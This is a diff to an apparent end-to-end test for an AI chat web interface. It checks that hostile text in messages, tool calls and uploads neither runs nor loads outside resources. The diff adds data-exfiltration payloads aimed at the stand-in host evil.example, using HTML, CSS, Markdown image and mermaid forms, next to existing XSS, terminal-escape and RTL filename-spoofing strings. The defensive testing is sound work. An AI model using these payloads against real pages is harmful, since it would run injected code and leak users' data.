@@ -10,6 +10,16 @@ const LINK =
 const HTML = `<script>globalThis.owned=1</script><iframe srcdoc="<script>top.owned=1</script>"></iframe><style>*{display:none}</style>`;
 const TERMINAL =
   '\u001b]8;;javascript:globalThis.owned=1\u0007press\u001b]8;;\u0007\u001b[2J\u001b]0;owned\u0007';
+/** Would tell somebody elsewhere what is read here, as soon as it is shown. */
+const ELSEWHERE = 'https://evil.example/?q=secret';
+const TELLING = [
+  `<link rel="prefetch" href="${ELSEWHERE}"><link rel="icon" href="${ELSEWHERE}"><base href="${ELSEWHERE}">`,
+  `<style>@import "${ELSEWHERE}"; body { background: url(${ELSEWHERE}) }</style>`,
+  `<img src="${ELSEWHERE}" srcset="${ELSEWHERE} 2x"><video poster="${ELSEWHERE}" src="${ELSEWHERE}"></video>`,
+  `<svg><image href="${ELSEWHERE}"/></svg><meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
+  `\n\n![x](${ELSEWHERE}) ![y][z] <${ELSEWHERE}>\n\n[z]: ${ELSEWHERE}\n\n`,
+  `\n\n\`\`\`mermaid\ngraph TD; A-->B; click A "${ELSEWHERE}"\n\`\`\`\n\n`,
+].join('');
 const EVIL = `${ACTING}${HTML}${LINK}${TERMINAL}\u202etxt.exe`;
 
 const CONFIG = `
@@ -22,7 +32,7 @@ sandbox: { kind: virtual }
 describe('words of somebody else', PATIENCE, () => {
   const chat = chatForTests(CONFIG);
 
-  it('[hostile.S12] in titles, messages, calls, results, files, models and searches do not act', async () => {
+  it('[hostile.S12] [hostile.S55] in titles, messages, calls, results, files, models and searches do not act, and load nothing from elsewhere', async () => {
     const { app } = chat;
     const { page } = app;
     const dialogs: string[] = [];
@@ -44,6 +54,7 @@ describe('words of somebody else', PATIENCE, () => {
     await page.getByText('last result').first().waitFor();
     await searched(app);
     await modelsSeen(app);
+    expect(app.complaints).toEqual([]);
     await filesSeen(app);
     expect(await page.evaluate('globalThis.owned')).toBe(undefined);
     expect(dialogs).toEqual([]);
@@ -51,7 +62,9 @@ describe('words of somebody else', PATIENCE, () => {
       [],
     );
     expect(await acting(app)).toBe(0);
-    expect(app.complaints).toEqual([]);
+    // A page is shown as what it is, in a frame: what it would load is blocked there, and nothing else is complained of.
+    const blocked = /'https:\/\/evil\.example\/.* has been blocked\.$/;
+    expect(app.complaints.filter((it) => !blocked.test(it))).toEqual([]);
     // What was said is there, as the text that it is.
     await threadList(page).getByRole('link', { name: 'onerror=globalThis.owned=1' }).first().waitFor();
   });
@@ -75,7 +88,8 @@ async function plant(app: WebApp): Promise<void> {
   const calls = [
     call('c1', 'bash', { description: EVIL, command: EVIL }),
     call('c2', 'task', { description: EVIL, prompt: EVIL, subagent_type: EVIL }),
-    call('c3', EVIL, { [EVIL]: EVIL }),
+    // As long as a name may be.
+    call('c3', EVIL.slice(0, 256), { [EVIL]: EVIL }),
     call('c4', 'write_file', { path: `/mnt/user-data/workspace/${ACTING}.html`, content: EVIL }),
     call('c5', 'web_search', { query: EVIL }),
     call('c6', 'ls', { path: EVIL }),
@@ -84,25 +98,30 @@ async function plant(app: WebApp): Promise<void> {
     type: 'tool',
     tool_call_id: id,
     name,
-    content: `${EVIL}\nlast result`,
+    content: `${EVIL}${TELLING}\nlast result`,
     status: index % 2 === 0 ? 'success' : 'error',
   }));
   const values = {
     title: ACTING,
     messages: [
-      { type: 'human', content: EVIL },
-      { type: 'ai', content: EVIL, tool_calls: calls, additional_kwargs: { reasoning_content: EVIL } },
+      { type: 'human', content: `${EVIL}${TELLING}` },
+      {
+        type: 'ai',
+        content: `${EVIL}${TELLING}`,
+        tool_calls: calls,
+        additional_kwargs: { reasoning_content: EVIL },
+      },
       ...results,
       {
         type: 'ai',
-        content: `${EVIL}\n\n<details open ontoggle=globalThis.owned=1>x</details>\n\nharmless end`,
+        content: `${EVIL}${TELLING}\n\n<details open ontoggle=globalThis.owned=1>x</details>\n\nharmless end`,
       },
     ],
   };
   const set = await page.request.post(`/api/threads/${threadId}/state`, { headers, data: { values } });
   expect(set.status()).toBe(200);
-  const file = { name: `${ACTING}.txt`, mimeType: 'text/html', buffer: Buffer.from(EVIL) };
-  const page1 = { name: `${ACTING}.html`, mimeType: 'text/html', buffer: Buffer.from(EVIL) };
+  const file = { name: `${ACTING}.txt`, mimeType: 'text/html', buffer: Buffer.from(`${EVIL}${TELLING}`) };
+  const page1 = { name: `${ACTING}.html`, mimeType: 'text/html', buffer: Buffer.from(`${EVIL}${TELLING}`) };
   const sent = await page.request.post(`/api/threads/${threadId}/uploads`, {
     headers,
     multipart: { files: file },
